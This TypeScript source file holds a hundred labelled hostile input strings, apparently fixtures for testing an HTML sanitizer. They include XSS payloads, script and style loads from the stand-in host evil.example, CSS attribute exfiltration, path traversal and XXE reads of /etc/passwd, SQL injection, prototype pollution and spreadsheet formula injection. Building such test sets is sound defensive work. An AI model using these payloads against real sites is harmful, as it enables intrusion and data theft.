/** A word that nothing but these texts has, so that a search finds all of them. */
export const WORD = 'zebracrossing';

const RUN = 'canary=1';
const CALL = 'window.canary=1';
const ELSEWHERE = 'https://evil.example';
const FROM_RIGHT = '\u202e';
const LONG = 'A'.repeat(350);

/**
 * A hundred texts with which people try to make a page run something, load something from elsewhere, or look like what it is not:
 * each as what it tries, and the text. What would run sets `canary`. Invented, after the usual collections (OWASP's XSS filter
 * evasion cheat sheet, the HTML5 Security Cheatsheet, the Big List of Naughty Strings).
 */
export const PAYLOADS: readonly (readonly [attempt: string, text: string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script in capitals', `<ScRiPt>${RUN}</ScRiPt>`],
  ['script with attributes', `<script type="module" async>${RUN}</script>`],
  ['script without end', `<script>${RUN}`],
  ['script within script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script from elsewhere', `<script src="${ELSEWHERE}/x.js"></script>`],
  ['script without protocol', '<script src=//evil.example/x.js></script>'],
  ['script with a slash', `<script/x>${RUN}</script>`],
  ['end of a script', `</script><script>${RUN}</script>`],
  ['dialog', '<script>alert(1)</script>'],

  ['image', `<img src=x onerror=${RUN}>`],
  ['image, quoted', `"><img src="x" onerror="${CALL}">`],
  ['image, apostrophes', `'><img src='x' onerror='${CALL}'>`],
  ['image, slashes', `<img/src=x/onerror=${RUN}>`],
  ['image, line breaks', `<img\nsrc=x\nonerror\n=\n${RUN}>`],
  ['image, graves', `<img src=\`x\` onerror=\`${RUN}\`>`],
  ['image from elsewhere', `<img src="${ELSEWHERE}/x.png">`],
  ['images from elsewhere', `<img srcset="${ELSEWHERE}/x.png 1x">`],
  ['picture', `<picture><source srcset="${ELSEWHERE}/x.png"><img onerror=${RUN}></picture>`],
  ['image of old', `<image src=x onerror=${RUN}>`],

  ['body', `<body onload=${RUN}>`],
  ['frame', `<iframe src="javascript:parent.${RUN}"></iframe>`],
  ['frame with a document', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['frame from elsewhere', `<iframe src="${ELSEWHERE}/"></iframe>`],
  ['object', `<object data="javascript:${RUN}"></object>`],
  ['embedded', `<embed src="javascript:${RUN}">`],
  ['video', `<video><source onerror=${RUN}></video>`],
  ['audio', `<audio src=x onerror=${RUN}>`],
  ['details', `<details open ontoggle=${RUN}>`],
  ['focus', `<input autofocus onfocus=${RUN}>`],

  ['pointer', `<a onpointerover=${RUN} href=#>point here</a>`],
  ['marquee', `<marquee onstart=${RUN}>moves</marquee>`],
  ['menu', `<select autofocus onfocus=${RUN}><option>one</select>`],
  ['text field', `</textarea><textarea autofocus onfocus=${RUN}>`],
  ['dialogue', `<dialog open onclose=${RUN}>`],
  ['popover', `<button popovertarget=x>open</button><div popover id=x onbeforetoggle=${RUN}>`],
  ['animation', `<p style="animation:x" onanimationstart="${RUN}">`],
  ['template', `<template><img src=x onerror=${RUN}></template>`],
  ['shadow', `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`],
  ['no script', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],

  ['drawing', `<svg onload=${RUN}>`],
  ['drawing with a script', `<svg><script>${RUN}</script></svg>`],
  ['drawing with entities', '<svg><script>&#99;anary=1</script></svg>'],
  ['drawing that moves', `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`],
  ['drawing with a link', `<svg><a xlink:href="javascript:${RUN}"><text y=20>here</text></a></svg>`],
  ['drawing with a page', `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`],
  ['drawing that is used', `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`],
  ['end of a drawing', `</text></svg><img src=x onerror=${RUN}>`],
  ['end of a title', `</title><script>${RUN}</script>`],
  ['formula', `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`],

  ['style', `<style>@import "${ELSEWHERE}/x.css";</style>`],
  ['style that tells', `<style>input[value^=a]{background:url(${ELSEWHERE}/a)}</style>`],
  ['style of an element', `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/x)">covered</p>`],
  ['end of a style', `</style><script>${RUN}</script>`],
  ['link to a style', `<link rel=stylesheet href="${ELSEWHERE}/x.css">`],
  ['link ahead', `<link rel=prefetch href="${ELSEWHERE}/"><link rel=dns-prefetch href="//evil.example">`],
  ['base', `<base href="${ELSEWHERE}/">`],
  ['other address', `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`],
  ['other policy', `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`],
  ['form', `<form action="${ELSEWHERE}/"><button>Search</button></form>`],

  ['address that runs', `javascript:${RUN}`],
  ['address that runs, in capitals', `JaVaScRiPt:${RUN}`],
  ['address that runs, with a tab', `java\tscript:${RUN}`],
  ['address that runs, behind a control character', `\u0001javascript:${RUN}`],
  ['address that runs, with a comment', `javascript://%0a${RUN}`],
  ['address that runs, in entities', `&#106;avascript&colon;${RUN}`],
  ['address with data', `data:text/html,<script>opener.${RUN}</script>`],
  ['address with data, in base64', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg=='],
  ['address elsewhere', '//evil.example/'],
  ['address elsewhere, with a backslash', '/\\evil.example/'],

  ['path upwards', '../../../../etc/passwd'],
  ['quotation mark', `" onmouseover="${RUN}" x="`],
  ['apostrophe', `' onmouseover='${RUN}' x='`],
  ['end of a tag', `"/><script>${RUN}</script>`],
  ['end of an attribute without marks', `x onmouseover=${RUN} `],
  ['comment', `<!--><script>${RUN}</script>-->`],
  ['end of a comment', `--><script>${RUN}</script><!--`],
  ['comment without end', '<!-- all that follows is gone'],
  ['end of character data', `]]><script>${RUN}</script>`],
  ['character data', `<![CDATA[<script>${RUN}</script>]]>`],

  ['processing instruction', `<?xml-stylesheet href="javascript:${RUN}"?>`],
  ['document type', `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`],
  ['entities', `&lt;script&gt;${RUN}&lt;/script&gt; &amp;amp; &quot; &#39; &#x3c;`],
  ['entities without end', '&lt &gt &amp &copy &notit; &#0; &#x110000;'],
  ['escapes of an address', `%3Cscript%3E${RUN}%3C/script%3E %00 %zz %u003c`],
  ['escapes of a program', `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e \\u003c \\`],
  ['braces', '{{constructor.constructor("canary=1")()}} ${canary=1} #{canary=1} <%= 1 %>'],
  ['object of a program', '{"$$typeof":"react.element","type":"script","__proto__":{"canary":1}}'],
  ['names of a program', '__proto__ constructor toString hasOwnProperty'],
  ['question to a database', `'; DROP TABLE articles; -- " OR 1=1`],

  ['formula of a spreadsheet', `=HYPERLINK("${ELSEWHERE}/","here")`],
  ['command of a spreadsheet', "+cmd|' /C calc'!A0"],
  ['line of a table', '@SUM(1,2)\r\n"next","row"\r\n'],
  ['control characters', `a\u0001b\u0008c\u000bd\u000ce\u001bf\u007fg\u0085h\u009bi`],
  ['characters that nobody sees', '\ufeffa\u200bb\u200cc\u200dd\u00ade\u2060f\u2028g\u2029h\ufffei\uffff'],
  ['direction turned', `${FROM_RIGHT}gnp.exe\u2066 <b>\u2069 \u061c \u200f(1)`],
  ['marks on marks', 'Z\u0351\u036b\u0343a\u0334\u0335\u0321l\u0317\u0316g\u0318\u0319o\u0489'],
  ['letters of other widths', `＜script＞${RUN}＜/script＞ ‹script› 〈img〉 ＝１`],
  [
    'many things at once',
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//</stYle/</titLe/</scRipt/--!><sVg oNloAd=${RUN}//>`,
  ],
  ['very long', `${LONG}<script>${RUN}</script>`],
];
